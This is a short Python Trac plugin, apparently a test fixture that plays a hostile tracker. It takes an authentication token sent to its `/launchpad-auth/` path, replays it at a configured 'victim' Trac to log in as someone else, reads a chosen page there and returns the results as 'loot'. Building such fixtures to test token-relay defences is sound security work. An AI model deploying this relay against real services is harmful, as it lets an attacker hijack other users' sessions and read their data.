"""A plugin that a hostile tracker might have: it takes a token and uses it at another Trac.

It is put into the `plugins` folder of a real Trac; see `HostileTrac`.
"""

import json
from http.cookiejar import CookieJar
from urllib.error import HTTPError
from urllib.request import HTTPCookieProcessor, ProxyHandler, build_opener

from trac.config import Option
from trac.core import Component, implements
from trac.web.api import IRequestHandler


class Relay(Component):
    implements(IRequestHandler)

    victim = Option('hostile', 'victim', '', "The Trac to log in to with other people's tokens.")
    page = Option('hostile', 'page', '', "The page there to read then.")

    def match_request(self, req):
        return req.path_info.startswith('/launchpad-auth/')

    def process_request(self, req):
        opener = build_opener(ProxyHandler({}), HTTPCookieProcessor(CookieJar()))
        loot = {'login': ask(opener, self.victim + req.path_info), 'page': ask(opener, self.victim + self.page)}
        req.send(json.dumps(loot).encode('utf-8'), 'application/json')


def ask(opener, url):
    try:
        with opener.open(url, timeout=30) as answer:
            return answer.status, answer.read().decode('utf-8')
    except HTTPError as answer:
        with answer:
            return answer.code, answer.read().decode('utf-8')
